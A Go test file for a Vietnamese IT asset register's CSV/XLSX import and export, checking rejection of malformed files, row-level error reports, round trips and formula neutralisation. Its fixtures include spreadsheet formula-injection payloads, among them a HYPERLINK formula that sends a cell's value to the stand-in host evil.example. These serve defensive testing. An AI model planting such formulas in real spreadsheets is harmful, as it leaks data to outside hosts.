package session

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"daumoi/data/fsx/fsxtest"
	"daumoi/data/registers"
	"daumoi/data/tabular"
)

// snapshot is everything an import may change: both registers and the
// length of the history.
func snapshot(t *testing.T, dir string, s *Session) string {
	t.Helper()
	var b bytes.Buffer
	if _, err := s.ExportAssets(&b, FormatJSON); err != nil {
		t.Fatal(err)
	}
	if _, err := s.ExportSystems(&b, FormatJSON); err != nil {
		t.Fatal(err)
	}
	b.WriteString(strings.Repeat("|", int(historyLen(t, dir, s))))
	return b.String()
}

// importFile runs LoadSheet, DetectHeader and ImportAssets, as the CLI does.
func importFile(s *Session, path string, opts ImportOptions) (ImportReport, error) {
	sheet, err := LoadSheet(path, tabular.ReadOptions{MaxBytes: 1 << 20})
	if err != nil {
		return ImportReport{}, err
	}
	m, err := tabular.DetectHeader(sheet, registers.AssetFields())
	if err != nil {
		return ImportReport{}, err
	}
	return s.ImportAssets(sheet, m, opts)
}

func writeFile(t *testing.T, name string, content []byte) string {
	t.Helper()
	path := filepath.Join(fsxtest.TempDir(t), name)
	if err := os.WriteFile(path, content, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

const goodHeader = "Loại tài sản,Tên thiết bị,Hostname,Địa chỉ IP,Hệ điều hành,Người phụ trách,Kết nối Internet\n"

// TestImportMalformedChangesNothing feeds files that cannot be imported and
// checks the error and that neither register nor history changed.
func TestImportMalformedChangesNothing(t *testing.T) {
	dir, s, _ := newVault(t)
	seedRegisters(t, s)
	xlsxFormula := func() []byte {
		f := excelize.NewFile()
		defer f.Close()
		_ = f.SetSheetRow("Sheet1", "A1", &[]string{"Loại tài sản", "Tên thiết bị", "Hostname"})
		_ = f.SetSheetRow("Sheet1", "A2", &[]string{"Máy chủ", "", "SRV-X"})
		_ = f.SetCellFormula("Sheet1", "B2", `HYPERLINK("http://evil.example/?"&C2,"bấm vào đây")`)
		var b bytes.Buffer
		if err := f.Write(&b); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	cases := []struct {
		name    string
		file    string
		content []byte
		strict  bool
		want    error
	}{
		{"zero bytes", "a.csv", nil, false, tabular.ErrEmpty},
		{"blank lines", "a.csv", []byte("\n\n ,, \n"), false, tabular.ErrEmpty},
		{"binary garbage as csv", "a.csv", bytes.Repeat([]byte{0, 0xff, 0x13, 0x37, 0x89, 'P', 'N', 'G'}, 300), false, tabular.ErrNotCSV},
		{"garbage as xlsx", "a.xlsx", []byte("PK\x03\x04 this is not a workbook"), false, tabular.ErrNotXLSX},
		{"csv named xlsx", "a.xlsx", []byte(goodHeader), false, tabular.ErrNotXLSX},
		{"legacy xls", "a.xlsx", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 600)...), false, tabular.ErrLegacyOrEncrypted},
		{"huge", "a.csv", append([]byte(goodHeader), bytes.Repeat([]byte("Máy chủ,x,,,,,\n"), 100_000)...), false, tabular.ErrTooLarge},
		{"wrong extension", "a.pdf", []byte(goodHeader), false, ErrUnknownFormat},
		{"no header", "a.csv", []byte("a,b,c\n1,2,3\n"), false, tabular.ErrNoHeader},
		{"missing required column", "a.csv", []byte("Tên thiết bị,Hostname\nMáy 1,PC-9\n"), false, tabular.ErrMissingRequired},
		{"header only", "a.csv", []byte(goodHeader), false, ErrNoValidRows},
		{"every row invalid", "a.csv", []byte(goodHeader + "Máy nướng bánh,Máy 1,PC-9,,,,\nMáy chủ,Máy 2,PC 10,,,,\n"), false, ErrNoValidRows},
		{"formula injection csv", "a.csv", []byte(goodHeader + `Máy chủ,"=HYPERLINK(""http://evil.example"",""x"")",SRV-9,,,,` + "\n"), false, ErrNoValidRows},
		{"formula injection xlsx", "a.xlsx", xlsxFormula(), false, ErrNoValidRows},
		{"strict with one bad row", "a.csv", []byte(goodHeader + "Máy chủ,Máy 1,SRV-7,10.0.0.7,,,có\nMáy chủ,Máy 2,SRV-8,10.0.0.999,,,có\n"), true, ErrStrictRejected},
		{"same asset twice, unchanged", "a.csv", []byte(goodHeader + "Máy trạm,Máy trạm PC-01,PC-01,,,,\nMáy trạm,Máy trạm PC-01,pc-01,,,,\n"), false, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := snapshot(t, dir, s)
			_, err := importFile(s, writeFile(t, c.file, c.content), ImportOptions{Strict: c.strict})
			if !errors.Is(err, c.want) {
				t.Errorf("import = %v, want %v", err, c.want)
			}
			if after := snapshot(t, dir, s); after != before {
				t.Error("a failed import changed the vault")
			}
		})
	}
}

func TestImportReportsEveryReason(t *testing.T) {
	dir, s, _ := newVault(t)
	seedRegisters(t, s)
	csv := goodHeader[:len(goodHeader)-1] + ",Màu sắc,Hệ thống thông tin\n" +
		"Máy chủ,Máy chủ 1,SRV-1,10.0.0.10,Ubuntu,An,không,,Cổng thông tin\n" + // row 2: valid
		"Máy chủ,Máy chủ 2,srv-1,10.0.0.11,Ubuntu,An,không,,\n" + // row 3: duplicate host in the file
		"Tủ lạnh,Máy 3,SRV-3,10.0.0.300,,,có lẽ,,Không tồn tại\n" + // row 4: type, IP, yes/no, system
		"Máy trạm,+SUM(A1:A3),PC-7,,,,,đỏ,\n" + // row 5: formula
		"Máy trạm,- máy dự phòng,PC-8,,,,x,,\n" // row 6: valid; a dash note is not a formula
	path := writeFile(t, "a.csv", []byte(csv))
	before := snapshot(t, dir, s)
	rep, err := importFile(s, path, ImportOptions{DryRun: true})
	if err != nil {
		t.Fatal(err)
	}
	if snapshot(t, dir, s) != before {
		t.Fatal("a dry run changed the vault")
	}
	if rep.Rows != 5 || rep.Valid != 2 || rep.Imported != 0 || len(rep.Skipped) != 3 || len(rep.Unknown) != 1 || rep.Unknown[0].Header != "Màu sắc" {
		t.Fatalf("report = %+v", rep)
	}
	want := map[int][]error{
		3: {ErrDuplicateHostname},
		4: {registers.ErrUnknownAssetType, registers.ErrBadIP, registers.ErrBadYesNo, registers.ErrUnknownSystem},
		5: {registers.ErrFormula},
	}
	for _, sk := range rep.Skipped {
		if len(sk.Problems) != len(want[sk.Row]) {
			t.Errorf("row %d: %v, want %v", sk.Row, sk.Problems, want[sk.Row])
			continue
		}
		for i, p := range sk.Problems {
			if !errors.Is(p, want[sk.Row][i]) {
				t.Errorf("row %d problem %d = %v, want %v", sk.Row, i, p, want[sk.Row][i])
			}
		}
	}
	rep, err = importFile(s, path, ImportOptions{})
	if err != nil || rep.Imported != 2 {
		t.Fatalf("import = %+v, %v", rep, err)
	}
	list, err := s.ListAssets(AssetFilter{Text: "SRV-1"})
	if err != nil || len(list) != 1 || len(list[0].Systems) != 1 || list[0].Internet {
		t.Errorf("imported asset = %+v, %v", list, err)
	}
}

// buildRegister fills a vault with systems and assets of every kind,
// including a disposed asset and formula-like text typed by a user.
// A formula-like note cannot survive a round trip: imports refuse such
// cells by design, so only TestExportNeutralisesFormulas asks for one.
func buildRegister(t *testing.T, s *Session, formulaNote bool) {
	t.Helper()
	a, err := s.SaveSystem(sampleSystem("Cổng thông tin điện tử"))
	if err != nil {
		t.Fatal(err)
	}
	b, err := s.SaveSystem(sampleSystem("Mạng LAN"))
	if err != nil {
		t.Fatal(err)
	}
	for i, typ := range registers.AssetTypes() {
		x := registers.Asset{Type: typ, Name: "Tài sản " + string(typ), Hostname: "h-" + string(rune('a'+i)),
			IPs: []string{fmt.Sprintf("10.1.1.%d", i+1), "fe80::1"}, MACs: []string{fmt.Sprintf("00:11:22:33:44:%02d", 50+i)},
			OS: "Windows Server", OSVersion: "2022", Serial: "SN" + string(rune('A'+i)), Location: "Phòng máy chủ, tầng 3",
			Responsible: "Nguyễn Văn Ấn", Supplier: "VNPT Vĩnh Long", Systems: []int64{b.ID}, Internet: i%2 == 0, LAN: i%3 == 0,
			StateSecret: i == 4, Notes: "dòng 1\ndòng 2"}
		if i == 0 {
			x.Systems = []int64{a.ID, b.ID}
		}
		if i == 0 && formulaNote {
			x.Notes = "=HYPERLINK(\"http://evil.example\")"
		}
		saved, err := s.SaveAsset(x)
		if err != nil {
			t.Fatal(err)
		}
		if i == 1 {
			if err := s.ChangeAssetStatus(saved.ID, registers.StatusDisposed, &registers.Sanitisation{
				Method: registers.MethodDestroy, Date: "2026-10-01", Performer: "Lê Minh Đức", Witness: "Trần Quốc Bảo"}); err != nil {
				t.Fatal(err)
			}
		}
		if i == 2 {
			if err := s.ChangeAssetStatus(saved.ID, registers.StatusUnderRepair, nil); err != nil {
				t.Fatal(err)
			}
		}
	}
}

// TestRoundTrip exports both registers, imports them into an empty vault
// and exports again: the files are identical.
func TestRoundTrip(t *testing.T) {
	for _, format := range []Format{FormatCSV, FormatXLSX} {
		t.Run(string(format), func(t *testing.T) {
			_, src, _ := newVault(t)
			buildRegister(t, src, false)
			var systems, assets bytes.Buffer
			if _, err := src.ExportSystems(&systems, format); err != nil {
				t.Fatal(err)
			}
			if _, err := src.ExportAssets(&assets, format); err != nil {
				t.Fatal(err)
			}
			_, dst, _ := newVault(t)
			sysPath := writeFile(t, "systems."+string(format), systems.Bytes())
			sheet, err := LoadSheet(sysPath, tabular.ReadOptions{})
			if err != nil {
				t.Fatal(err)
			}
			m, err := tabular.DetectHeader(sheet, registers.SystemFields())
			if err != nil {
				t.Fatal(err)
			}
			if rep, err := dst.ImportSystems(sheet, m, ImportOptions{Strict: true}); err != nil || rep.Imported != 2 {
				t.Fatalf("systems: %+v, %v", rep, err)
			}
			rep, err := importFile(dst, writeFile(t, "assets."+string(format), assets.Bytes()), ImportOptions{Strict: true})
			if err != nil || rep.Imported != len(registers.AssetTypes()) {
				t.Fatalf("assets: %+v, %v", rep, err)
			}
			var again bytes.Buffer
			if _, err := dst.ExportAssets(&again, FormatCSV); err != nil {
				t.Fatal(err)
			}
			var first bytes.Buffer
			if _, err := src.ExportAssets(&first, FormatCSV); err != nil {
				t.Fatal(err)
			}
			// The codes in the register differ (another register, ids
			// given in the export's order); every other cell is the same.
			if a, b := withoutCodes(t, first.String()), withoutCodes(t, again.String()); a != b {
				t.Errorf("round trip differs:\n%s\n---\n%s", a, b)
			}
			disposed, err := dst.ListAssets(AssetFilter{Status: registers.StatusDisposed})
			if err != nil || len(disposed) != 1 {
				t.Fatalf("disposed = %v, %v", disposed, err)
			}
			if got, _ := dst.GetAsset(disposed[0].ID); len(got.Sanitisations) != 1 || got.Sanitisations[0].Witness != "Trần Quốc Bảo" {
				t.Errorf("sanitisation lost: %+v", got.Sanitisations)
			}
		})
	}
}

func TestExportNeutralisesFormulas(t *testing.T) {
	_, s, _ := newVault(t)
	buildRegister(t, s, true)
	var csv, xlsx bytes.Buffer
	if _, err := s.ExportAssets(&csv, FormatCSV); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(csv.String(), `"'=HYPERLINK(""http://evil.example"")"`) {
		t.Errorf("CSV formula not neutralised:\n%s", csv.String())
	}
	if _, err := s.ExportAssets(&xlsx, FormatXLSX); err != nil {
		t.Fatal(err)
	}
	sheet, err := tabular.ReadXLSX(bytes.NewReader(xlsx.Bytes()), int64(xlsx.Len()), tabular.ReadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range sheet.Rows {
		if len(row.Formulas) > 0 {
			t.Errorf("row %d holds formulas %v", row.Number, row.Formulas)
		}
		for _, c := range row.Cells {
			found = found || c == `=HYPERLINK("http://evil.example")`
		}
	}
	if !found {
		t.Error("the formula-like note is not in the XLSX as text")
	}
	if _, err := s.ExportAssets(&bytes.Buffer{}, "pdf"); !errors.Is(err, ErrUnknownFormat) {
		t.Errorf("export as pdf = %v", err)
	}
}

func TestImportSystems(t *testing.T) {
	dir, s, _ := newVault(t)
	seedRegisters(t, s) // holds "Cổng thông tin"
	csv := "STT,Tên hệ thống,Cấp độ đề xuất,Loại thông tin,Số người dùng,Dùng chung của tỉnh,Số quy chế\n" +
		"1,Hệ thống một cửa điện tử,Cấp độ 3,cá nhân; riêng,1.500,không,15/QĐ-SNV\n" +
		"2,cong thong tin,2,công cộng,10,không,\n" + // already in the register
		"3,Thư điện tử công vụ,6,riêng,x,có,\n" + // bad level, bad count
		"4,Hệ thống một cửa điện tử,3,,,,\n" // twice in the file
	sheet, err := tabular.ReadCSV(strings.NewReader(csv), tabular.ReadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	m, err := tabular.DetectHeader(sheet, registers.SystemFields())
	if err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, dir, s)
	if _, err := s.ImportSystems(sheet, m, ImportOptions{Strict: true}); !errors.Is(err, ErrStrictRejected) {
		t.Fatalf("strict = %v", err)
	}
	if snapshot(t, dir, s) != before {
		t.Fatal("a strict rejection changed the vault")
	}
	rep, err := s.ImportSystems(sheet, m, ImportOptions{})
	if err != nil || rep.Imported != 1 || len(rep.Skipped) != 3 || len(rep.Unknown) != 0 { // STT is recognised and ignored
		t.Fatalf("report = %+v, %v", rep, err)
	}
	want := map[int][]error{3: {ErrSystemExists}, 4: {registers.ErrBadNumber, registers.ErrBadLevel}, 5: {ErrSystemExists}}
	for _, sk := range rep.Skipped {
		for i, p := range sk.Problems {
			if i >= len(want[sk.Row]) || !errors.Is(p, want[sk.Row][i]) {
				t.Errorf("row %d: %v, want %v", sk.Row, sk.Problems, want[sk.Row])
			}
		}
	}
	list, err := s.ListSystems(SystemFilter{Text: "mot cua"})
	if err != nil || len(list) != 1 {
		t.Fatalf("imported = %+v, %v", list, err)
	}
	got := list[0]
	if got.ProposedLevel != 3 || got.Users != 1500 || !got.Regulation.Issued || got.Dossier.State != registers.DossierDrafting ||
		!got.HasInfo(registers.InfoPersonal) || !got.NeedsYearlyDrill() {
		t.Errorf("imported system = %+v", got)
	}
}

// withoutCodes drops the first column (the asset codes) of a CSV export.
func withoutCodes(t *testing.T, text string) string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, r := range recs {
		if len(r) == 0 || (r[0] != "Mã trong sổ" && !strings.HasPrefix(r[0], "TS-")) {
			t.Fatalf("first column = %q", r)
		}
		fmt.Fprintf(&b, "%q\n", r[1:])
	}
	return b.String()
}
